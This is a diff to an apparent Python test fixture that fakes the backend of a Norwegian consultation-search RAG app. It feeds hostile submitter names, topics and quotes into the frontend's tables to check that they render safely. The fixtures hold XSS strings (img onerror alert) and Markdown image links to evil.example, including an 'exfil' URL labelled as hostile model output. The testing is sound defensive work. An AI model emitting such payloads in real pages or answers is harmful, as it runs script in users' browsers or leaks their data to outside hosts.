@@ -29,6 +29,13 @@ HOSTILE_HTML_QUOTE = (
     "Se <img src=x onerror=alert(7)> og ![kart](https://evil.example/kart.png) her."
 )
 HOSTILE_SECTION = "**Tiltak** [s](https://evil.example/s)"
+# A second hostile submitter, whose name is an image, so that every table holds a link and an
+# image from names; and topics that are Markdown (the overview matrix).
+IMAGE_ID = "bilde"
+IMAGE_SUBMITTER = "![logo](https://evil.example/navn.png) Bildelaget"
+IMAGE_QUOTE = "Legevakten trenger ![kart](https://evil.example/legevakt.png) flere leger."
+HOSTILE_TOPIC = "[tema](https://evil.example/tema) ![t](https://evil.example/t.png)"
+TABLE_QUESTION = "Hva sier innspillene med bilder?"
 # What a hostile model could write into a generated answer, were rag.generate bypassed.
 HOSTILE_GENERATED = (
     "Se ![status](https://evil.example/exfil?q=1) og <img src=y onerror=alert(8)> [1]."
@@ -49,6 +56,7 @@ TEXTS = {
         f"{HOSTILE_FIRST_LINE}\n\nTiltak\n{HOSTILE_URL_QUOTE} {HOSTILE_HTML_QUOTE}\n\n"
         "Med vennlig hilsen _x_"
     ),
+    IMAGE_ID: f"Innspill fra Bildelaget\n\n{IMAGE_QUOTE}\n",
 }
 META = {
     "moss": ("Moss kommune", "kommune", "moss.pdf", "Innspill fra Moss kommune"),
@@ -60,7 +68,12 @@ META = {
         f"{HOSTILE_SUBMITTER}.txt",
         "![tittel](https://evil.example/tittel.png)",
     ),
+    IMAGE_ID: (IMAGE_SUBMITTER, "organisasjon", "![fil](https://evil.example/f.png).txt", "B"),
 }
+# Sentences shared between submissions (GET /documents), so the documents page shows its
+# «Delt tekst mellom innspill» table, with the hostile names in its cells.
+SHARED_TEXT = {HOSTILE_ID: {IMAGE_ID: 0.8}, IMAGE_ID: {HOSTILE_ID: 0.75, "ondsinnet": 0.2}}
+NEAR_DUPLICATES = {HOSTILE_ID: [IMAGE_ID], IMAGE_ID: [HOSTILE_ID]}
 
 
 def document_info(document_id: str) -> dict[str, Any]:
@@ -73,6 +86,9 @@ def document_info(document_id: str) -> dict[str, Any]:
         "title": title,
         "chars": len(TEXTS[document_id]),
         "chunks": 2,
+        "submitter_origin": "metadata.csv",
+        "near_duplicates": NEAR_DUPLICATES.get(document_id, []),
+        "shared_text": SHARED_TEXT.get(document_id, {}),
     }
 
 
@@ -132,6 +148,21 @@ HOSTILE_ANSWER = {
     "citations": HOSTILE_CITATIONS,
     "timings_ms": {"retrieve": 5.0},
 }
+# Two hostile submitters, so the answer has its «Oversikt per innsender» table.
+TABLE_CITATIONS = [*HOSTILE_CITATIONS, citation(3, IMAGE_ID, IMAGE_QUOTE, 0.6)]
+TABLE_ANSWER = {
+    "question": TABLE_QUESTION,
+    "answer": (
+        "2 av 5 innspill omtaler dette.\n\n"
+        f"**{HOSTILE_SUBMITTER}** (organisasjon)\n- «{HOSTILE_URL_QUOTE}» [1]\n"
+        f"- «{HOSTILE_HTML_QUOTE}» [2]\n\n"
+        f"**{IMAGE_SUBMITTER}** (organisasjon)\n- «{IMAGE_QUOTE}» [3]"
+    ),
+    "no_answer": False,
+    "confidence": "high",
+    "citations": TABLE_CITATIONS,
+    "timings_ms": {"retrieve": 5.0},
+}
 NO_ANSWER = {
     "question": NO_ANSWER_QUESTION,
     "answer": NO_ANSWER_TEXT,
@@ -140,6 +171,71 @@ NO_ANSWER = {
     "citations": [],
     "timings_ms": {"retrieve": 10.0},
 }
+
+
+def quotes_of(document_id: str) -> list[dict[str, Any]]:
+    return [c for c in TABLE_CITATIONS if c["document_id"] == document_id]
+
+
+def matrix(topics: list[str]) -> dict[str, Any]:
+    """POST /matrix: the hostile submitters mention every topic with their first quote."""
+    ids = sorted(META, key=lambda d: (META[d][1], list(META).index(d)))  # grouped by type
+    cells = []
+    for topic in topics:
+        for document_id in ids:
+            quote = next(iter(quotes_of(document_id)), None)
+            cells.append(
+                {
+                    "topic": topic,
+                    "document_id": document_id,
+                    "mentioned": quote is not None,
+                    "confidence": "high" if quote else "none",
+                    "quote": quote["quote"] if quote else None,
+                    "start": quote["start"] if quote else None,
+                    "end": quote["end"] if quote else None,
+                    "section": quote["section"] if quote else None,
+                    "page": None,
+                    "score": 0.8 if quote else 0.1,
+                }
+            )
+    kinds = sorted({META[d][1] for d in ids})
+    counts = [
+        {
+            "topic": topic,
+            "submitter_type": kind,
+            "mentioned": sum(1 for d in ids if META[d][1] == kind and quotes_of(d)),
+            "total": sum(1 for d in ids if META[d][1] == kind),
+        }
+        for topic in topics
+        for kind in kinds
+    ]
+    submitters = [
+        {k: document_info(d)[k] for k in ("document_id", "source", "submitter", "submitter_type")}
+        for d in ids
+    ]
+    return {
+        "topics": topics,
+        "submitters": submitters,
+        "cells": cells,
+        "counts": counts,
+        "timings_ms": {"total": 1.0},
+    }
+
+
+def comparison(question: str, document_ids: list[str]) -> dict[str, Any]:
+    """POST /compare: each chosen submitter's own quotes (the hostile ones have some)."""
+    columns = [
+        {
+            "document_id": d,
+            "submitter": META[d][0],
+            "submitter_type": META[d][1],
+            "confidence": "low" if quotes_of(d) else "none",
+            "score": 0.7,
+            "quotes": quotes_of(d),
+        }
+        for d in document_ids
+    ]
+    return {"question": question, "columns": columns, "timings_ms": {"total": 1.0}}
 
 
 @dataclass
@@ -169,6 +265,8 @@ class _Handler(BaseHTTPRequestHandler):
             )
         elif parts.path == "/documents":
             self._send(200, [document_info(document_id) for document_id in TEXTS])
+        elif parts.path == "/topics":
+            self._send(200, {"topics": [HOSTILE_TOPIC, "legevakt"]})
         elif parts.path.startswith("/documents/"):
             document_id = unquote(parts.path.removeprefix("/documents/"))
             if document_id not in TEXTS:
@@ -179,13 +277,22 @@ class _Handler(BaseHTTPRequestHandler):
             self._send(404, {"detail": "Not Found"})
 
     def do_POST(self) -> None:
-        if self.path != "/ask":
+        path = urlsplit(self.path).path
+        if path not in ("/ask", "/matrix", "/compare"):
             self._send(404, {"detail": "Not Found"})
             return
         body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        if path == "/matrix":
+            self._send(200, matrix(body["topics"]))
+            return
+        if path == "/compare":
+            self._send(200, comparison(body["question"], body["document_ids"]))
+            return
         self.fake.asked.append(body)
         question = body["question"]
-        if question == HOSTILE_QUESTION:
+        if question == TABLE_QUESTION:
+            self._send(200, TABLE_ANSWER)
+        elif question == HOSTILE_QUESTION:
             self._send(200, HOSTILE_ANSWER)
         elif question == BROKEN_QUESTION:
             self._send(503, {"detail": "Indeksen mangler. Bygg den med `rag index`."})
